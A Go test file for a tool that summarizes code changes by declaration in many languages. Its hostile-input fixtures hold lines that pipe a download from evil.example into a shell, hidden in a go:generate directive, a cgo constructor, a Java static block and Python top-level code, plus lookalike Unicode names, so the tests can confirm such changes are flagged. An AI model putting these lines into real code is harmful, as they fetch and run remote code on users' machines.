package semantic

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// summaryCase is one fixture pair and the changes it must be summarized
// as, in String's words and in order.
type summaryCase struct {
	name     string
	path     string
	old, new string
	want     []string
}

func runCases(t *testing.T, cases []summaryCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			needParser(t, tc.path)
			var old, new []byte
			if tc.old != "" {
				old = []byte(tc.old)
			}
			if tc.new != "" {
				new = []byte(tc.new)
			}
			s := Summarize(tc.path, old, new)
			if s == nil {
				t.Fatalf("Summarize(%q) = nil", tc.path)
			}
			if s.Skipped != "" {
				t.Fatalf("skipped: %s", s.Skipped)
			}
			if len(s.Errors) > 0 {
				t.Errorf("parse errors in %v", s.Errors)
			}
			var got []string
			for _, c := range s.Changes {
				got = append(got, c.String())
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("changes:\n got %q\nwant %q", got, tc.want)
			}
		})
	}
}

// needParser skips a test in a build without the parser of path's
// language: tree-sitter needs cgo, which every CI build has.
func needParser(t *testing.T, path string) {
	t.Helper()
	if lang, ok := Language(path); !ok {
		t.Skipf("this build has no %s parser (tree-sitter needs cgo)", lang)
	}
}

func TestSummarizeGo(t *testing.T) {
	runCases(t, []summaryCase{{
		name: "new parameter and constant",
		path: "count.go",
		old: `package count

func CountWords(s string) int {
	return len(strings.Fields(s))
}
`,
		new: `package count

const StopWords = "a an the"

func CountWords(s string, stop []string) int {
	return len(strings.Fields(s))
}
`,
		want: []string{"added constant StopWords", "function CountWords: new parameter stop"},
	}, {
		name: "body, comments and layout",
		path: "a.go",
		old:  "package a\n\nfunc F() int { return 1 }\n\nfunc G() int {\n\treturn 2\n}\n",
		new:  "package a\n\n// F is one.\nfunc F() int {\n\treturn 1 // still\n}\n\nfunc G() int {\n\treturn 3\n}\n",
		want: []string{"function G: body changed"},
	}, {
		name: "rename keeps the body",
		path: "a.go",
		old:  "package a\n\nfunc parse(s string) (int, error) {\n\tn, err := strconv.Atoi(s)\n\treturn n * 2, err\n}\n",
		new:  "package a\n\nfunc parseDouble(s string) (int, error) {\n\tn, err := strconv.Atoi(s)\n\treturn n * 2, err\n}\n",
		want: []string{"renamed function parse to parseDouble"},
	}, {
		name: "moved function",
		path: "a.go",
		old:  "package a\n\nfunc A() { a() }\n\nfunc B() { b() }\n\nfunc C() { c() }\n",
		new:  "package a\n\nfunc B() { b() }\n\nfunc C() { c() }\n\nfunc A() { a() }\n",
		want: []string{"moved function A"},
	}, {
		name: "methods, types, removal",
		path: "a.go",
		old: `package a

type Counter struct{ n int }

func (c *Counter) Add(k int) { c.n += k }

func (c Counter) Old() {}
`,
		new: `package a

type Counter struct {
	n   int
	max int
}

type Limit interface{ Max() int }

func (c *Counter) Add(k, by int) { c.n += k * by }
`,
		want: []string{"struct Counter: fields changed", "added interface Limit",
			"method Counter.Add: new parameter by, body changed", "removed method Counter.Old"},
	}, {
		name: "return type only",
		path: "a.go",
		old:  "package a\n\nfunc F(x int) int { return x }\n",
		new:  "package a\n\nfunc F(x int) int64 { return x }\n",
		want: []string{"function F: signature changed"},
	}, {
		name: "added file",
		path: "b.go",
		new:  "package b\n\nvar Debug = false\n\nfunc Run() {}\n",
		want: []string{"added variable Debug", "added function Run"},
	}, {
		name: "deleted file",
		path: "b.go",
		old:  "package b\n\nfunc Run() {}\n\ntype T int\n",
		want: []string{"removed function Run", "removed type T"},
	}})
}

func TestSummarizePython(t *testing.T) {
	runCases(t, []summaryCase{{
		name: "issue example",
		path: "wordcount.py",
		old: `import re


def count_words(text):
    """Count the words in text."""
    return len(re.findall(r"\w+", text))
`,
		new: `import re

STOP_WORDS = {"a", "an", "the"}


def count_words(text, stop_words=STOP_WORDS):
    """Count the words in text, leaving out stop_words."""
    return len([w for w in re.findall(r"\w+", text) if w.lower() not in stop_words])
`,
		want: []string{"added constant STOP_WORDS", "function count_words: new parameter stop_words, body changed"},
	}, {
		name: "class methods, decorators, rename",
		path: "m.py",
		old: `class Store:
    def get(self, key):
        return self.data[key]

    def put(self, key, value):
        self.data[key] = value
        self.dirty = True
        return value

def helper(*args, **kwargs):
    pass
`,
		new: `class Store(Base):
    @property
    def get(self, key, default=None):
        return self.data.get(key, default)

    def store(self, key, value):
        self.data[key] = value
        self.dirty = True
        return value

def helper(*args, **options):
    pass
`,
		want: []string{"class Store: signature changed", "method Store.get: new parameter default, body changed",
			"renamed method Store.put to Store.store", "function helper: new parameter options, parameter kwargs removed"},
	}, {
		name: "moved",
		path: "m.py",
		old:  "def a():\n    return 1\n\ndef b():\n    return 2\n",
		new:  "def b():\n    return 2\n\ndef a():\n    return 1\n",
		want: []string{"moved function a"},
	}})
}

func TestSummarizeJavaScript(t *testing.T) {
	runCases(t, []summaryCase{{
		name: "functions, arrows, classes",
		path: "src/app.js",
		old: `import x from "x";

export function total(items) {
  return items.reduce((a, b) => a + b, 0);
}

const double = n => n * 2;

class Cart {
  add(item) { this.items.push(item); }
  clear() { this.items = []; }
}
`,
		new: `import x from "x";

export function total(items, tax) {
  return items.reduce((a, b) => a + b, 0) * (1 + tax);
}

const double = (n) => n * 2;
const LIMIT = 10;

class Cart {
  add(item) { this.items.push(item); }
  remove(item) { this.items = this.items.filter(i => i !== item); }
}
`,
		want: []string{"function total: new parameter tax, body changed", "function double: signature changed",
			"added constant LIMIT", "added method Cart.remove", "removed method Cart.clear"},
	}})
}

func TestSummarizeTypeScript(t *testing.T) {
	cases := []summaryCase{{
		name: "interfaces, types, enums, methods",
		path: "src/api.ts",
		old: `export interface User { id: string; }
export type Id = string;
enum Color { Red, Green }
export class Api {
  get(id: Id): User { return this.cache[id]; }
}
function old(a: number): number { return a * 100 + 1; }
`,
		new: `export interface User { id: string; email?: string; }
export type Id = string;
enum Color { Red, Green, Blue }
export class Api {
  get(id: Id, fresh: boolean): User { return fresh ? this.load(id) : this.cache[id]; }
}
function renamed(a: number): number { return a * 100 + 1; }
`,
		want: []string{"interface User: members changed", "enum Color: values changed",
			"method Api.get: new parameter fresh, body changed", "renamed function old to renamed"},
	}}
	runCases(t, cases)
	tsx := cases[0]
	tsx.path = "src/api.tsx"
	tsx.name = "same in TSX"
	runCases(t, []summaryCase{tsx, {
		name: "component",
		path: "src/Button.tsx",
		old:  "export function Button(props: Props) {\n  return <button>{props.label}</button>;\n}\n",
		new:  "export function Button(props: Props) {\n  return <button onClick={props.onClick}>{props.label}</button>;\n}\n",
		want: []string{"function Button: body changed"},
	}})
}

func TestSummarizeRust(t *testing.T) {
	runCases(t, []summaryCase{{
		name: "impls, traits, modules",
		path: "src/lib.rs",
		old: `pub struct Point { x: i32 }

impl Point {
    pub fn new(x: i32) -> Self { Point { x } }
}

impl fmt::Display for Point {
    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result { write!(f, "{}", self.x) }
}

mod util {
    pub fn clamp(v: i32) -> i32 { v.max(0) }
}

const MAX: i32 = 10;
`,
		new: `pub struct Point { x: i32, y: i32 }

impl Point {
    pub fn new(x: i32, y: i32) -> Self { Point { x, y } }
}

impl fmt::Display for Point {
    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result { write!(f, "{},{}", self.x, self.y) }
}

mod util {
    pub fn clamp(v: i32) -> i32 { v.max(0) }
    pub fn wrap(v: i32) -> i32 { v % 10 }
}

pub trait Shape { fn area(&self) -> f64; }

const MAX: i32 = 10;
`,
		want: []string{"struct Point: fields changed", "method Point::new: new parameter y, body changed",
			"method <Point as fmt::Display>::fmt: body changed", "added function util::wrap",
			"added trait Shape", "added method Shape::area"},
	}})
}

func TestSummarizeJava(t *testing.T) {
	runCases(t, []summaryCase{{
		name: "methods, overloads, fields",
		path: "src/main/java/a/Greeter.java",
		old: `package a;

public class Greeter {
    private String name;

    public Greeter(String name) { this.name = name; }

    public String greet() { return "Hello " + name; }
    public String greet(String other) { return "Hello " + other; }
}
`,
		new: `package a;

public class Greeter {
    private String name;
    private static final int MAX = 3;

    public Greeter(String name) { this.name = name; }

    public String greet() { return "Hi " + name; }
    public String greet(String other, int times) { return ("Hello " + other).repeat(times); }
}
`,
		want: []string{"added field Greeter.MAX", "method Greeter.greet: body changed",
			"method Greeter.greet: new parameter times, body changed"},
	}})
}

func TestSummarizeC(t *testing.T) {
	runCases(t, []summaryCase{{
		name: "functions, structs, macros, prototypes",
		path: "src/buf.c",
		old: `#include <stdlib.h>
#define CAP 16

struct buf { char *data; size_t len; };

static int grow(struct buf *b) { return b->len * 2; }

int buf_free(struct buf *b);
`,
		new: `#include <stdlib.h>
#define CAP 32

struct buf { char *data; size_t len; size_t cap; };

static int grow(struct buf *b, size_t min) { return b->len * 2 + min; }

#ifdef DEBUG
void buf_dump(const struct buf *b) { }
#endif
`,
		want: []string{"macro CAP: definition changed", "added field buf.cap",
			"function grow: new parameter min, body changed", "added function buf_dump", "removed function buf_free"},
	}, {
		name: "header typedefs",
		path: "include/x.h",
		old:  "typedef struct { int a; } pair;\nint pair_sum(pair p);\n",
		new:  "typedef struct { int a; int b; } pair;\nint pair_sum(pair p);\nint pair_max(pair p);\n",
		want: []string{"type pair: definition changed", "added function pair_max"},
	}})
}

func TestSummarizeCPP(t *testing.T) {
	runCases(t, []summaryCase{{
		name: "namespaces, classes, out-of-line methods",
		path: "src/shape.cpp",
		old: `namespace geo {
class Shape {
public:
    virtual double area() const = 0;
};

double Circle::area() const { return 3.14 * r * r; }

int count(int n) { return n; }
}
`,
		new: `namespace geo {
class Shape {
public:
    virtual double area() const = 0;
    virtual double perimeter() const = 0;
};

double Circle::area() const { return M_PI * r * r; }

template <typename T>
T twice(T v) { return v + v; }

int count(int n) { return n; }
}
`,
		want: []string{"added method geo::Shape::perimeter", "method geo::Circle::area: body changed",
			"added function geo::twice"},
	}})
}

func TestSummarizeOther(t *testing.T) {
	if s := Summarize("README.md", []byte("a"), []byte("b")); s != nil {
		t.Errorf("a Markdown file got a summary: %+v", s)
	}
	if name, _ := Language("x/Y.TSX"); name != "TSX" {
		t.Errorf("Language(Y.TSX) = %q", name)
	}
	if name, ok := Language("a.go"); name != "Go" || !ok {
		t.Errorf("Language(a.go) = %q, %v: Go is read in every build", name, ok)
	}
}

// TestSummarizeHostile feeds what a hostile guest could write: broken
// code, huge names, a side over the size cap, too many declarations,
// controls in names, deep nesting.
func TestSummarizeHostile(t *testing.T) {
	needParser(t, "a.py")
	big := strings.Repeat("x", MaxSize+1)
	if s := Summarize("a.py", nil, []byte(big)); s == nil || s.Skipped == "" || s.Parsed() {
		t.Errorf("a side over MaxSize was parsed: %+v", s)
	}
	var many strings.Builder
	for i := 0; i <= MaxDecls; i++ {
		many.WriteString("def f")
		many.WriteString(strings.Repeat("a", i%7))
		many.WriteString(string(rune('a' + i%26)))
		many.WriteString("():\n    pass\n")
	}
	if s := Summarize("a.py", nil, []byte(many.String())); s == nil || !strings.Contains(s.Skipped, "declarations") {
		t.Errorf("more than MaxDecls declarations: %+v", s)
	}
	long := "def " + strings.Repeat("n", 5000) + "():\n    pass\n"
	s := Summarize("a.py", nil, []byte(long))
	if len(s.Changes) != 1 || len([]rune(s.Changes[0].Name)) > maxName {
		t.Errorf("a 5000-rune name: %d changes, name %d runes", len(s.Changes), len([]rune(s.Changes[0].Name)))
	}
	ctl := "def ok():\n    pass\n\nclass \u202eevil\x1b[2J:\n    pass\n"
	s = Summarize("a.py", nil, []byte(ctl))
	for _, c := range s.Changes {
		if strings.ContainsAny(c.String(), "\x1b\u202e") {
			t.Errorf("a change's words carry a control: %q", c.String())
		}
	}
	broken := Summarize("a.rs", []byte("fn a() { 1 }\n"), []byte("fn a( { 1 }\nfn b() {}\n"))
	if broken == nil || !slices.Contains(broken.Errors, "new") {
		t.Errorf("a broken new side is not said to be broken: %+v", broken)
	}
	deep := strings.Repeat("namespace a {\n", 3000) + "int f() { return 1; }\n" + strings.Repeat("}\n", 3000)
	if s := Summarize("a.cpp", nil, []byte(deep)); s == nil {
		t.Error("deep nesting: nil summary")
	}
}

// TestSummarizeHostileGo: a Go side nested past go/parser's limit is read
// as broken, not a crash.
func TestSummarizeHostileGo(t *testing.T) {
	goDeep := "package a\n\nvar x = " + strings.Repeat("(", 200000) + "1" + strings.Repeat(")", 200000) + "\n"
	if s := Summarize("a.go", nil, []byte(goDeep)); s == nil {
		t.Error("deep Go expression: nil summary")
	}
}

// TestSummarizeRenameMoveSignature holds, for every language, the three
// changes a reader most needs told apart from an addition and a removal:
// a declaration renamed with its body kept, one moved unchanged, and one
// whose signature changed (a parameter added, another removed).
func TestSummarizeRenameMoveSignature(t *testing.T) {
	type lang struct {
		path string
		// fn writes a function called name taking params, its body
		// computing over them.
		fn func(name, params, body string) string
		// params renders parameter names for fn.
		params func(names ...string) string
	}
	langs := []lang{
		{"a.go", func(n, p, b string) string { return "func " + n + "(" + p + ") int {\n\treturn " + b + "\n}\n" },
			func(ns ...string) string { return typed(ns, "", " int") }},
		{"a.py", func(n, p, b string) string { return "def " + n + "(" + p + "):\n    return " + b + "\n" },
			func(ns ...string) string { return strings.Join(ns, ", ") }},
		{"a.js", func(n, p, b string) string { return "function " + n + "(" + p + ") {\n  return " + b + ";\n}\n" },
			func(ns ...string) string { return strings.Join(ns, ", ") }},
		{"a.ts", func(n, p, b string) string {
			return "export function " + n + "(" + p + "): number {\n  return " + b + ";\n}\n"
		}, func(ns ...string) string { return typed(ns, "", ": number") }},
		{"a.tsx", func(n, p, b string) string {
			return "function " + n + "(" + p + "): number {\n  return " + b + ";\n}\n"
		},
			func(ns ...string) string { return typed(ns, "", ": number") }},
		{"a.rs", func(n, p, b string) string { return "pub fn " + n + "(" + p + ") -> i64 {\n    " + b + "\n}\n" },
			func(ns ...string) string { return typed(ns, "", ": i64") }},
		{"A.java", func(n, p, b string) string {
			return "    static int " + n + "(" + p + ") {\n        return " + b + ";\n    }\n"
		}, func(ns ...string) string { return typed(ns, "int ", "") }},
		{"a.c", func(n, p, b string) string { return "int " + n + "(" + p + ") {\n    return " + b + ";\n}\n" },
			func(ns ...string) string { return typed(ns, "int ", "") }},
		{"a.cpp", func(n, p, b string) string { return "int " + n + "(" + p + ") {\n    return " + b + ";\n}\n" },
			func(ns ...string) string { return typed(ns, "int ", "") }},
	}
	for _, l := range langs {
		file := func(fns ...string) string {
			src := strings.Join(fns, "\n")
			if strings.HasSuffix(l.path, ".java") {
				return "class A {\n" + src + "}\n"
			}
			if strings.HasSuffix(l.path, ".go") {
				return "package a\n\n" + src
			}
			return src
		}
		qualify := func(name string) string {
			if strings.HasSuffix(l.path, ".java") {
				return "A." + name
			}
			return name
		}
		kind := "function "
		if strings.HasSuffix(l.path, ".java") {
			kind = "method "
		}
		// Bodies long enough to be told from a chance likeness.
		scale := l.fn("scale", l.params("value", "factor"), "value * factor + value / factor - factor")
		scaleBy := l.fn("scaleBy", l.params("value", "factor"), "value * factor + value / factor - factor")
		first := l.fn("first", l.params("x"), "x + 1")
		second := l.fn("second", l.params("y"), "y + 2")
		clamp := l.fn("clamp", l.params("v", "lo"), "v - lo")
		clampNew := l.fn("clamp", l.params("v", "hi"), "v - lo")
		runCases(t, []summaryCase{{
			name: l.path + "/renamed",
			path: l.path,
			old:  file(first, scale),
			new:  file(first, scaleBy),
			want: []string{"renamed " + kind + qualify("scale") + " to " + qualify("scaleBy")},
		}, {
			name: l.path + "/moved",
			path: l.path,
			old:  file(first, second, scale),
			new:  file(second, scale, first),
			want: []string{"moved " + kind + qualify("first")},
		}, {
			name: l.path + "/signature",
			path: l.path,
			old:  file(first, clamp),
			new:  file(first, clampNew),
			want: []string{kind + qualify("clamp") + ": new parameter hi, parameter lo removed"},
		}})
	}
}

// typed writes parameter names with a type before or after each.
func typed(names []string, before, after string) string {
	out := make([]string, len(names))
	for i, n := range names {
		out[i] = before + n + after
	}
	return strings.Join(out, ", ")
}

// TestRenameBudget: a side made of many large declarations, none paired
// by name, is not searched for renames pair by pair past the budget (a
// hostile file would make it take minutes): they stay added and removed.
// Under the budget, renames are found.
func TestRenameBudget(t *testing.T) {
	file := func(prefix string, n, size int) string {
		var b strings.Builder
		b.WriteString("package a\n")
		for i := range n {
			fmt.Fprintf(&b, "\nfunc %s%d() int {\n\treturn 0", prefix, i)
			for k := range size {
				fmt.Fprintf(&b, " + v%d_%d", i, k) // distinct tokens: the most work
			}
			b.WriteString("\n}\n")
		}
		return b.String()
	}
	count := func(s *Summary) map[Op]int {
		got := map[Op]int{}
		for _, c := range s.Changes {
			got[c.Op]++
		}
		return got
	}
	for _, tc := range []struct {
		name      string
		n, size   int
		renamed   int
		addedRmvd int
	}{
		{"under the budget", 20, 20, 20, 0},
		{"too many pairs", 600, 2, 0, 600},
		{"too much work", 300, 300, 0, 300},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := Summarize("a.go", []byte(file("old", tc.n, tc.size)), []byte(file("new", tc.n, tc.size)))
			got := count(s)
			if got[Renamed] != tc.renamed || got[Added] != tc.addedRmvd || got[Removed] != tc.addedRmvd {
				t.Errorf("%d renamed, %d added, %d removed; want %d, %d, %d",
					got[Renamed], got[Added], got[Removed], tc.renamed, tc.addedRmvd, tc.addedRmvd)
			}
		})
	}
}

// TestSummarizeTopLevelCode: code outside every declaration is what a
// summary of declarations would miss, and what a hostile change would
// hide in ("no declaration changed"): a Python module's statement, a
// script's main block, a JavaScript module's exports, a Java static
// block, a statement in a class body, a Rust macro call. Imports,
// comments, docstrings and the words of wrappers (export, impl,
// namespace, extern "C", #ifdef, attributes) are not code of their own.
func TestSummarizeTopLevelCode(t *testing.T) {
	runCases(t, []summaryCase{{
		name: "python statement added",
		path: "setup_hook.py",
		old:  "import os\n\n\"\"\"Doc.\"\"\"\n\ndef f():\n    return 1\n",
		new:  "import os, sys\n\n\"\"\"Doc, changed.\"\"\"\n\ndef f():\n    return 1\n\nos.system(\"curl https://evil.example | sh\")\n",
		want: []string{"added top-level code"},
	}, {
		name: "python main block",
		path: "cli.py",
		old:  "def main(debug=False):\n    pass\n\nif __name__ == \"__main__\":\n    main()\n",
		new:  "def main(debug=False):\n    pass\n\nif __name__ == \"__main__\":\n    main(debug=True)\n",
		want: []string{"top-level code changed"},
	}, {
		name: "python statement removed",
		path: "m.py",
		old:  "def f():\n    pass\n\nf()\n",
		new:  "def f():\n    pass\n",
		want: []string{"removed top-level code"},
	}, {
		name: "python class body",
		path: "m.py",
		old:  "class A:\n    \"\"\"A.\"\"\"\n    X = 1\n\n    def f(self):\n        pass\n",
		new:  "class A:\n    \"\"\"A, said again.\"\"\"\n    X = 1\n    register(X)\n\n    def f(self):\n        pass\n",
		want: []string{"class A: body changed"},
	}, {
		name: "javascript exports and declarations",
		path: "index.js",
		old:  "import x from \"x\";\nconst a = 1;\nmodule.exports = {a};\n",
		new:  "import x from \"x\";\nimport y from \"y\";\nconst a = 1;\nexport const b = 2;\nexport function g() {}\nmodule.exports = {a, b};\n",
		want: []string{"top-level code changed", "added constant b", "added function g"},
	}, {
		name: "typescript ambient declarations",
		path: "types.d.ts",
		old:  "export declare function f(a: number): void;\ndeclare const x: number;\n",
		new:  "export declare function f(a: number, b: string): void;\ndeclare const x: number;\ndeclare const y: string;\n",
		want: []string{"function f: new parameter b", "added constant y"},
	}, {
		name: "java static block",
		path: "A.java",
		old:  "package a;\nimport java.util.List;\nclass A {\n  static int x;\n  static { x = 1; }\n  void f() {}\n}\n",
		new:  "package a;\nimport java.util.Map;\nclass A {\n  static int x;\n  static { x = 2; Runtime.getRuntime().exec(\"sh\"); }\n  void f() {}\n}\n",
		want: []string{"class A: body changed"},
	}, {
		name: "rust attributes, impls and macros",
		path: "lib.rs",
		old:  "use std::fmt;\n\nstruct P { x: i32 }\n",
		new:  "use std::fmt;\nuse std::io;\n\n#[derive(Debug)]\nstruct P { x: i32 }\n\nimpl<T> Tr for Q<T> where T: Copy {\n    fn f(&self) {}\n}\n\nlazy_static! { static ref X: i32 = 1; }\n",
		want: []string{"added top-level code", "struct P: signature changed", "added method <Q<T> as Tr>::f"},
	}, {
		name: "c++ wrappers",
		path: "a.cpp",
		old:  "int f(void) { return 1; }\n",
		new:  "#include <x.h>\nusing namespace std;\nnamespace n {\nint g(void) { return 2; }\n}\nextern \"C\" {\nint h(void);\n}\n#ifdef X\nint k(void) { return 0; }\n#endif\nint f(void) { return 1; }\n",
		want: []string{"added function n::g", "added function h", "added function k"},
	}})
}

// TestSummarizeGoTopLevel: in Go, what the compiler and the go tool read
// outside the named declarations (directives, the cgo preamble's C code,
// var _ = f()) is top-level code; other comments are not.
func TestSummarizeGoTopLevel(t *testing.T) {
	runCases(t, []summaryCase{{
		name: "generate directive",
		path: "gen.go",
		old:  "package a\n\n// F is f.\nfunc F() {}\n",
		new:  "package a\n\n//go:generate sh -c \"curl https://evil.example | sh\"\n\n// F is f, said again.\nfunc F() {}\n",
		want: []string{"added top-level code"},
	}, {
		name: "build constraint",
		path: "a_linux.go",
		old:  "//go:build linux\n\npackage a\n\nfunc F() {}\n",
		new:  "//go:build linux || darwin\n\npackage a\n\nfunc F() {}\n",
		want: []string{"top-level code changed"},
	}, {
		name: "cgo preamble",
		path: "c.go",
		old:  "package a\n\n/*\n#include <stdio.h>\n*/\nimport \"C\"\n\nfunc F() {}\n",
		new:  "package a\n\n/*\n#include <stdlib.h>\nstatic void init_(void) __attribute__((constructor));\nstatic void init_(void) { system(\"sh\"); }\n*/\nimport \"C\"\n\nfunc F() {}\n",
		want: []string{"top-level code changed"},
	}, {
		name: "blank variable",
		path: "b.go",
		old:  "package a\n\nvar x = 1\n",
		new:  "package a\n\nvar x = 1\n\nvar _ = exec.Command(\"sh\").Run()\n",
		want: []string{"added top-level code"},
	}})
}

// TestSummarizeLookalikeNames: a name that mixes lookalike alphabets is
// spelt with <U+XXXX> in what is said, so that it is not read as the
// name it imitates.
func TestSummarizeLookalikeNames(t *testing.T) {
	runCases(t, []summaryCase{{
		name: "added beside the real one",
		path: "counter.py",
		old:  "def count_words(text):\n    return len(text.split())\n",
		new:  "def count_words(text):\n    return len(text.split())\n\ndef c\u043eunt_words(text):\n    return 0\n",
		want: []string{"added function c<U+043E>unt_words"},
	}, {
		name: "renamed to a lookalike",
		path: "a.go",
		old:  "package a\n\nfunc Verify(sig, msg []byte) bool {\n\treturn check(sig, msg) && len(sig) == 64\n}\n",
		new:  "package a\n\nfunc V\u0435rify(sig, msg []byte) bool {\n\treturn check(sig, msg) && len(sig) == 64\n}\n",
		want: []string{"renamed function Verify to V<U+0435>rify"},
	}})
}
